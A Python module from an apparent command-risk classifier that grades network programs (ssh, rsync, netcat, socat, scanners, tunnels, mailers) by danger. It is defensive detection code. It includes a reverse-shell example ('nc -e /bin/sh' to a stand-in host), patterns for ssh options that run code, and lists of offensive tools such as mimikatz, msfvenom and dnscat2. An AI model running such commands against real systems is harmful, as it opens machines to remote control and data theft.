"""Programs that connect to other machines: ssh, scp, rsync, nc, and tools that look at networks."""

from __future__ import annotations

import re

from app.risk.commands.known_files import landed, note_download
from app.risk.commands.options import Arguments, arguments_of
from app.risk.commands.routers import is_device_line, read_device_lines
from app.risk.commands.sending import connect_to, is_secret, sends_dump, sends_file
from app.risk.commands.table import Command, program
from app.risk.effects import Act, act_on, connect, host_of, run_unread
from app.risk.places import is_trial
from app.risk.reading import Reading
from app.risk.rules import declare, word_set
from app.risk.words import Word
from assent.contracts import RiskLevel

SAFE, LOW, MEDIUM, HIGH, CRITICAL = RiskLevel

REMOTE = declare(
    "network.remote", HIGH, "Acts on another machine.", "ssh deploy@web1.example.com uptime", "ssh -V", language="shell"
)
TUNNEL = declare(
    "network.tunnel", HIGH, "Makes services of this machine or network reachable from elsewhere.", "ngrok http 8080",
    "ngrok version", language="shell",
)  # fmt: skip
LISTENS = declare(
    "network.listens",
    HIGH,
    "Waits for connections from elsewhere.",
    "nc -l 4444",
    "nc -z localhost 4444",
    language="shell",
)
SHELL = declare(
    "network.shell", CRITICAL, "Gives another machine a shell on this one.", "nc -e /bin/sh x.example 4444",
    "nc -z localhost 4444", language="shell",
)  # fmt: skip
LOOKS = declare(
    "network.looks",
    LOW,
    "Asks whether and where another machine is.",
    "ping -c 1 example.com",
    "ping -V",
    language="shell",
)
SCANS = declare(
    "network.scans",
    MEDIUM,
    "Scans machines or records traffic.",
    "nmap example.com",
    "nmap --version",
    language="shell",
)
SYNC_DELETES = declare(
    "network.sync_deletes", HIGH, "Copies files, and deletes what is not among them at the target.",
    "rsync -a --delete build/ web1:/srv/www/", "rsync -a build/ web1:/srv/www/", language="shell",
)  # fmt: skip
MAILS = declare(
    "network.mails", MEDIUM, "Sends mail.", "mail -s hi a@example.com", "mailq", language="shell"
)  # fmt: skip

_SSH_VALUES = "-b -B -c -D -E -e -F -I -i -J -L -l -m -O -o -p -P -Q -R -S -W -w"
_SSH_CODE = re.compile(
    r"(?:ProxyCommand|LocalCommand|KnownHostsCommand|PKCS11Provider|SecurityKeyProvider)\s*[= "
    r"]\s*(?!none\b)(.+)",
    re.IGNORECASE,
)


@program("ssh", "slogin", "autossh", "mosh", "plink", "sshpass-ssh", "dbclient", "rsh", "et")
def _ssh(command: Command, reading: Reading) -> None:
    given = arguments_of(command.arguments, _SSH_VALUES, mixed=False)
    if given.exactly("-V", "-Q", "-G", "--version", "--help") and not given.value("-F", "-o"):
        return
    for option, value in given.options:
        if option in ("-R", "-L", "-D", "-w", "-W") and value is not None:
            way_in = option == "-R" and re.search(r":(?:22|3389|5900|5985|445)$", value.text)
            level = CRITICAL if way_in else None
            reading.add(TUNNEL, f"This opens a tunnel: {value.display}.", command.line, level)
        elif option == "-F" and value is not None:
            run_unread(reading, value)
    ssh_options(given, reading)
    if not given.operands:
        return
    host, *words = given.operands
    connect(reading, host)
    # What is done there is judged by itself; a machine for tests is one that nobody else relies on.
    level = MEDIUM if words and host.known and is_trial(host_of(host.text)) else None
    reading.add(REMOTE, f"This acts on {host.display}.", host.line, level)
    within = f"On {host.display}: "
    if words:
        text = " ".join(word.text for word in words)
        if not all(word.known for word in words):
            reading.doubt()
        if is_device_line(text):
            read_device_lines([text], reading, host.line)
            return
        reading.read(
            "shell", text, words[0].line, fixed=True, within=within,
            here=host.text, input=command.input, input_from=command.input_from,
        )  # fmt: skip
    elif command.input is not None and command.input.known:
        reading.read("shell", command.input.text, command.input.line, within=within, here=host.text)
    elif command.input_from:
        run_unread(reading, f"what is sent to {host.display}", host.line)
    else:
        reading.doubt()


def ssh_options(given: Arguments, reading: Reading) -> None:
    """Read settings of ssh that run programs."""
    for value in given.values("-o"):
        if found := _SSH_CODE.match(value.text.strip()):
            words = f"The setting {value.display} runs a program on this machine."
            reading.add(REMOTE, words, value.line)
            reading.read("shell", found[1], value.line, fixed=True)


_REMOTE = re.compile(
    r"(?:[^/\\:\s]+@)?(?:\[[0-9a-f:]+\]|[^/\\:\s@]{2,}):(?!//).*|(?:scp|sftp|rsync|ftp)://.*", re.DOTALL
)


@program("scp", "pscp")
def _scp(command: Command, reading: Reading) -> None:
    given = arguments_of(command.arguments, "-c -D -F -i -J -l -o -P -S -X")
    ssh_options(given, reading)
    for value in given.values("-S", "-F"):
        run_unread(reading, value)
    copies(given.operands, command, reading)


def copies(words: list[Word], command: Command, reading: Reading) -> None:
    """Note that files are copied between machines: all words but the last to the last."""
    if len(words) < 2:
        return
    *sources, target = words
    there = bool(_REMOTE.fullmatch(target.text))
    secret = False
    for word in sources[:100]:
        if _REMOTE.fullmatch(word.text):
            connect(reading, word)
            act_on(reading, Act.READ, word.with_text(word.text.rpartition(":")[2]))
        elif there:
            secret |= sends_file(word, command, reading)
        else:
            act_on(reading, Act.READ, word)
    if there:
        connect(reading, target, sends=True, secret=secret)
        act_on_remote(target, reading)
    else:
        act_on(reading, Act.WRITE, target)
        for word in sources[:100]:
            if _REMOTE.fullmatch(word.text):
                note_download(reading, landed(word, target))


def act_on_remote(target: Word, reading: Reading) -> None:
    """Note that files of another machine change: as bad as on this one."""
    path = target.text.partition(":")[2]
    if path.startswith(("/", "~")):
        act_on(reading, Act.WRITE, target.with_text(path))
    reading.add(REMOTE, f"This changes files on another machine: {target.display}.", target.line, MEDIUM)


_RSYNC_VALUES = (
    "-e --rsh --rsync-path --exclude --include --exclude-from --include-from --files-from -f --filter -M "
    "--remote-option -T "
    "--temp-dir --partial-dir --backup-dir --suffix --log-file --bwlimit --max-size --min-size --timeout --port "
    "--password-file "
    "--compare-dest --copy-dest --link-dest --chmod --chown --info --debug --out-format --modify-window -B --block-size"
)


@program("rsync")
def _rsync(command: Command, reading: Reading) -> None:
    given = arguments_of(command.arguments, _RSYNC_VALUES)
    for value in given.values("-e", "--rsh", "--rsync-path"):
        if re.search(r"[;&|`$]|sudo|sh\s+-c", value.text) or not re.match(r"(?:/usr/bin/)?(?:ssh|rsync)\b", value.text):
            reading.add(REMOTE, f"This runs {value.display} on the way.", value.line)
            reading.read("shell", value.text, value.line, fixed=True)
    if given.harmless("-n", "--dry-run", "--list-only", "--version", "--help"):
        return
    copies(given.operands, command, reading)
    if given.has(
        "--delete",
        "--del",
        "--delete-after",
        "--delete-before",
        "--delete-during",
        "--delete-excluded",
        "--delete-delay",
    ):
        for target in given.operands[-1:]:
            words = f"This deletes at {target.display} whatever is not in the source."
            reading.add(SYNC_DELETES, words, command.line)
            act_on(reading, Act.DELETE_ALL, target.with_text(target.text.partition(":")[2] or target.text))
    if given.has("--remove-source-files"):
        for word in given.operands[:-1]:
            act_on(reading, Act.DELETE_MANY, word)


@program("sftp", "ftp", "lftp", "tftp", "ncftp", "ncftpput", "smbclient", "cadaver")
def _ftp(command: Command, reading: Reading) -> None:
    given = arguments_of(command.arguments, "-b -c -e -o -P -i -F -U -u -p -W -k -l")
    ssh_options(given, reading)
    for word in given.operands[:1]:
        connect(reading, word)
    if command.input_from or command.input is not None or given.value("-b", "-c", "-e"):
        reading.add(REMOTE, "This runs commands on another machine's files, which have not been read.", command.line)
    reading.doubt()


@program("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat", "pwncat")
def _netcat(command: Command, reading: Reading) -> None:
    given = arguments_of(
        command.arguments, "-e -c -p -s -w -i -q -x -X -o -g -G -T -I -O -P -b --exec --sh-exec --lua-exec"
    )
    host = given.operands[0] if given.operands else Word("another machine", command.line)
    if given.has("-e", "-c", "--exec", "--sh-exec", "--lua-exec"):
        reading.add(SHELL, f"This connects a program of this machine with {host.display}.", command.line)
    if given.has("-l", "--listen"):
        reading.add(LISTENS, "This waits for connections from elsewhere.", command.line)
    elif given.exactly("-z"):
        reading.add(LOOKS, f"This tries whether {host.display} answers.", command.line)
    elif given.operands:
        sends = command.input is not None or bool(command.input_from)
        connect_to(host, reading, sends=sends, secret=command.input_from == "secret")
        sends_dump(command, reading)
        if command.input is not None and re.search(
            r"\b(?:flush_all|flushall|flushdb)\b", command.input.text, re.IGNORECASE
        ):
            reading.read("redis", "FLUSHALL", command.line, fixed=True)


@program("socat")
def _socat(command: Command, reading: Reading) -> None:
    for word in command.arguments:
        kind, _, rest = word.text.partition(":")
        kind = kind.upper()
        if kind in ("EXEC", "SYSTEM", "SHELL"):
            reading.add(SHELL, f"This connects {word.display} with another machine.", word.line)
        elif "LISTEN" in kind or kind.endswith("-L"):
            reading.add(LISTENS, f"This waits for connections: {word.display}.", word.line)
        elif kind in ("OPEN", "FILE", "GOPEN", "CREATE"):
            act_on(reading, Act.WRITE, word.with_text(rest.split(",")[0]))
            act_on(reading, Act.READ, word.with_text(rest.split(",")[0]))
        elif kind.startswith(("TCP", "UDP", "OPENSSL", "SSL", "SOCKS", "PROXY")):
            connect_to(word.with_text(rest), reading, sends=True, secret=command.input_from == "secret")
        elif kind.startswith("UNIX"):
            reading.add(REMOTE, f"This speaks to the service behind {word.display}.", word.line)
        elif word.text.startswith(("/", "./", "../", "~")):
            act_on(reading, Act.WRITE, word)
            act_on(reading, Act.READ, word)
        elif kind not in ("-", "STDIO", "STDIN", "STDOUT", "STDERR", "PIPE") and not word.text.startswith("-"):
            reading.add(REMOTE, f"This connects {word.display} with something else.", word.line, MEDIUM)
            reading.doubt()


@program("telnet")
def _telnet(command: Command, reading: Reading) -> None:
    for word in arguments_of(command.arguments, "-l -e -b -n").operands[:1]:
        connect_to(word, reading, sends=bool(command.input_from), secret=command.input_from == "secret")


@program(
    *word_set(
        "ping ping6 dig host nslookup drill kdig traceroute traceroute6 tracert tracepath mtr whois getent resolvectl "
        "avahi-browse arping fping pathping delv pg_isready"
    )
)
def _looks(command: Command, reading: Reading) -> None:
    given = arguments_of(command.arguments, "-c -W -w -i -s -t -I -m -p -q -h -U -d -n -l -b -k -f")
    if given.exactly("-V", "--version", "--help") or command.name in ("getent", "avahi-browse"):
        return
    if command.name == "resolvectl":
        texts = [word.text for word in given.operands]
        if not texts or texts[0] in ("status", "statistics", "query", "service", "show-cache", "monitor"):
            return
        if texts[0] not in ("dns", "domain", "default-route", "llmnr", "mdns", "dnssec", "nta") or len(texts) > 2:
            reading.add(LOOKS, "This changes how names are looked up.", command.line, HIGH)
        return
    for word in [*given.operands, *given.values("-h")][:4]:
        if not word.known:
            reading.doubt()
            if is_secret(word):
                connect(reading, word, secret=True)
                continue
    if given.value("-f") is not None and command.name == "dig":
        reading.doubt()
    shown = given.operands[-1].display if given.operands else "the usual server"
    reading.add(LOOKS, f"This asks about {shown}.", command.line)


@program(
    *word_set(
        "nmap masscan zmap rustscan arp-scan tcpdump tshark dumpcap wireshark ettercap ngrep netdiscover hping3 nikto "
        "sqlmap hydra gobuster ffuf dirb wpscan nuclei medusa john hashcat aircrack-ng responder bettercap msfconsole "
        "msfvenom mimikatz crackmapexec"
    )
)
def _scans(command: Command, reading: Reading) -> None:
    texts = [word.text for word in command.arguments]
    if texts in (["--version"], ["-V"], ["--help"], ["-h"]):
        return
    attacks = command.name not in (
        "nmap",
        "tcpdump",
        "tshark",
        "dumpcap",
        "wireshark",
        "arp-scan",
        "ngrep",
        "netdiscover",
    )
    level = HIGH if attacks or any(text.startswith("--script") for text in texts) else MEDIUM
    what = "attacks or scans other machines" if attacks else "looks at other machines or at traffic, passwords included"
    reading.add(SCANS, f"This {what}.", command.line, level)
    given = arguments_of(command.arguments, "-w -oN -oX -oA -z -o -r")
    for word in given.values("-w"):
        act_on(reading, Act.WRITE, word)
    for word in given.values("-z"):
        run_unread(reading, word)


@program(
    *word_set(
        "ngrok cloudflared lt localtunnel bore frpc frps chisel zrok localxpose serveo pagekite tailscale "
        "zerotier-cli wg wg-quick openvpn nebula ligolo iodine dnscat2 tor proxychains sshuttle gost v2ray boringtun"
    )
)
def _tunnels(command: Command, reading: Reading) -> None:
    texts = [word.text for word in command.arguments]
    if texts[:1] and texts[0] in (
        "version",
        "--version",
        "help",
        "--help",
        "status",
        "ip",
        "netcheck",
        "ping",
        "show",
        "info",
        "whois",
    ):
        return
    way_in = "tcp" in texts and any(re.fullmatch(r"(?:\S*:)?(?:22|3389|5900)", text) for text in texts)
    level = CRITICAL if way_in else None
    reading.add(TUNNEL, "This opens a way between this machine or network and others.", command.line, level)
    reading.doubt()


@program(*word_set("ttyd gotty wetty shellinaboxd sshx tmate butterfly.server.py webssh wssh upterm"))
def _terminal(command: Command, reading: Reading) -> None:
    """Judge a program that shows a terminal of this machine to others."""
    texts = [word.text for word in command.arguments]
    if {"--version", "--help", "-h"} & set(texts):
        return
    local = any(re.fullmatch(r"lo|127\.0\.0\.1|localhost|--localhost-only|::1", text) for text in texts)
    guarded = {"-c", "--credential", "--auth"} & set(texts)
    words = "This gives a terminal of this machine to anyone who connects."
    reading.add(
        TUNNEL, words.replace("anyone who connects", "others"), command.line, HIGH if local or guarded else CRITICAL
    )


@program(*word_set("http-server serve live-server browser-sync miniserve caddy webfsd darkhttpd python-http devd"))
def _serves(command: Command, reading: Reading) -> None:
    reading.add(LISTENS, "Everybody who can reach this machine can read the working folder.", command.line, MEDIUM)
    reading.doubt()


@program(
    *word_set(
        "mail mailx sendmail msmtp mutt s-nail swaks ssmtp mpack sendemail neomutt mailq telegram-send "
        "slack-cli ntfy pushover wall write notify-send"
    )
)
def _mails(command: Command, reading: Reading) -> None:
    if command.name in ("mailq", "notify-send"):
        return
    given = arguments_of(command.arguments, "-s -a -A -c -b -r -S -f -F -i -t -u -m --attach --to --body --server")
    secret = command.input_from == "secret"
    for word in given.values("-a", "-A", "--attach"):
        secret |= sends_file(word, command, reading)
    to = ", ".join(word.display for word in given.operands[:3]) or "others"
    many = any(word.several for word in given.operands)
    reading.add(MAILS, f"This sends a message to {to}.", command.line, HIGH if many else None)
    if secret:
        connect(reading, Word(to, command.line), secret=True)
